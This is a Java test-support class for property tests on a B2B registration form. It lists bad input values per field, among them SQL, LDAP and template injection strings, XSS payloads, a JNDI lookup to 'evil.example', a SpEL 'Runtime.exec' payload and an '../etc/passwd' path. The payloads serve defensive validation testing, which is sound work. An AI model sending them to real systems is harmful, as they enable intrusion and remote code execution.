package com.b2bflow.badinput;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * The bad values {@link BadInputPropertiesTest} sends, per kind of field: each {@link #invalid} value breaks the
 * field's rule for sure; {@link #noise} values are odd but allowed (an organization may be called
 * {@code <script>}; it must come back escaped).
 */
final class BadInput {

    static final List<String> CONTROL =
            List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085", "\u009b");
    static final List<String> LINE_BREAKS = List.of("\n", "\r", "\r\n", "\t");
    /** Injection strings; each has a character that no restricted field (logon id, phone, tax id...) allows. */
    static final List<String> INJECTION = List.of(
            "'; DROP TABLE member_user; --",
            "\" OR \"1\"=\"1",
            "<script>alert(1)</script>",
            "${7*7}",
            "#{7*7}",
            "*)(uid=*))(|(uid=*",
            "{{7*7}}",
            "' OR 1=1 --",
            "<img src=x onerror=alert(1)>",
            "${jndi:ldap://evil.example/a}",
            "%00%0d%0a",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "\\u0000");

    static final List<String> UNICODE =
            List.of("ünïcödé", "用户名", "a\u200Bb", "a\u202Eb", "😀😀", "e\u0301", "Ⅻ", "ﬀ", "\uFEFFbom");

    enum Kind {
        TEXT,
        MULTILINE,
        RESTRICTED,
        EMAIL,
        PASSWORD
    }

    /** A field of the registration request: its JSON path, HCL parameter, length limit and kind. */
    record Field(String path, String hcl, int max, boolean required, Kind kind) {}

    static final List<Field> REGISTRATION_FIELDS = List.of(
            new Field("organization.name", "org_orgEntityName", 128, true, Kind.TEXT),
            new Field("organization.description", "org_description", 1000, false, Kind.MULTILINE),
            new Field("organization.businessCategory", "org_businessCategory", 128, false, Kind.TEXT),
            new Field("organization.taxId", "org_legalId", 64, false, Kind.RESTRICTED),
            new Field("organization.emailDomain", "org_emailDomain", 128, false, Kind.RESTRICTED),
            new Field("user.logonId", "usr_logonId", 64, true, Kind.RESTRICTED),
            new Field("user.password", "usr_logonPassword", 64, true, Kind.PASSWORD),
            new Field("user.firstName", "usr_firstName", 64, false, Kind.TEXT),
            new Field("user.middleName", "usr_middleName", 64, false, Kind.TEXT),
            new Field("user.lastName", "usr_lastName", 64, true, Kind.TEXT),
            new Field("user.email", "usr_email1", 254, true, Kind.EMAIL),
            new Field("user.phone", "usr_phone1", 32, false, Kind.RESTRICTED),
            new Field("user.preferredLanguage", "usr_preferredLanguage", 8, false, Kind.RESTRICTED),
            new Field("address.address1", "org_address1", 128, false, Kind.TEXT),
            new Field("address.address2", "org_address2", 128, false, Kind.TEXT),
            new Field("address.city", "org_city", 64, false, Kind.TEXT),
            new Field("address.state", "org_state", 64, false, Kind.TEXT),
            new Field("address.postalCode", "org_zipCode", 32, false, Kind.TEXT),
            new Field("address.country", "org_country", 64, false, Kind.RESTRICTED),
            new Field("address.phone", "org_phone1", 32, false, Kind.TEXT));

    /** Required of the JSON API and the storefront form, not of HCL's registration URLs (ADR 0024). */
    static final Set<String> OPTIONAL_IN_HCL = Set.of("usr_lastName", "usr_email1");

    /** Marks "leave the field out" (JSON: no key; forms: no parameter). */
    static final Object ABSENT = new Object() {
        @Override
        public String toString() {
            return "<absent>";
        }
    };

    private BadInput() {}

    /** A string over the limit: just over it, or 10k to 1M characters. */
    static Arbitrary<String> oversized(int max) {
        return Arbitraries.of(max + 1, max + 17, 10_000, 100_000, 1_000_000).map(n -> "x".repeat(n));
    }

    static Arbitrary<String> withControl(boolean multiline) {
        List<String> controls = new ArrayList<>(CONTROL);
        if (!multiline) {
            controls.addAll(LINE_BREAKS);
        }
        return Arbitraries.of(controls).map(c -> "Acme" + c + "Ltd");
    }

    /** Values that the field must refuse, as plain strings (forms) or any JSON value (text only when textOnly). */
    static Arbitrary<Object> invalid(Field field, boolean textOnly) {
        List<Arbitrary<?>> choices = new ArrayList<>();
        choices.add(
                field.kind() == Kind.PASSWORD
                        ? Arbitraries.of(65, 100, 10_000, 1_000_000).map(n -> "Pw1!".repeat(n / 4 + 1))
                        : oversized(field.max()));
        if (field.kind() != Kind.PASSWORD) {
            choices.add(withControl(field.kind() == Kind.MULTILINE));
        }
        if (field.required()) {
            choices.add(textOnly ? Arbitraries.of("", " ", "   ") : Arbitraries.of(ABSENT, null, "", " ", "   "));
        }
        switch (field.kind()) {
            case RESTRICTED -> {
                choices.add(Arbitraries.of(INJECTION));
                choices.add(Arbitraries.of(UNICODE));
            }
            case EMAIL -> {
                List<String> emails = new ArrayList<>(
                        INJECTION.stream().filter(s -> !s.contains("@")).toList());
                emails.addAll(List.of("not-an-email", "a@", "@example.com", "a@@b.example", "a b@example.com"));
                choices.add(Arbitraries.of(emails));
            }
            case PASSWORD -> choices.add(Arbitraries.of("short", "password", "abc", "Password1"));
            default -> {}
        }
        if (!textOnly) {
            choices.add(Arbitraries.of(List.of("a"), List.of(), Map.of("a", 1), Map.of()));
        }
        @SuppressWarnings({"unchecked", "rawtypes"})
        Arbitrary<Object> any = (Arbitrary) Arbitraries.oneOf((List) choices);
        return any;
    }

    /** Odd but allowed values for free-text fields (within the limit). */
    static Arbitrary<String> noise(Field field) {
        return Arbitraries.oneOf(
                        Arbitraries.of(INJECTION),
                        Arbitraries.of(UNICODE),
                        Arbitraries.of("../../etc/passwd", "null", "undefined", "0", "-1", "9223372036854775808"))
                .filter(s -> s.length() <= field.max() && !s.contains("\\u0000"));
    }

    static String abbreviate(Object value) {
        String text = String.valueOf(value);
        return text.length() > 60 ? text.substring(0, 40) + "…(" + text.length() + " chars)" : text;
    }
}
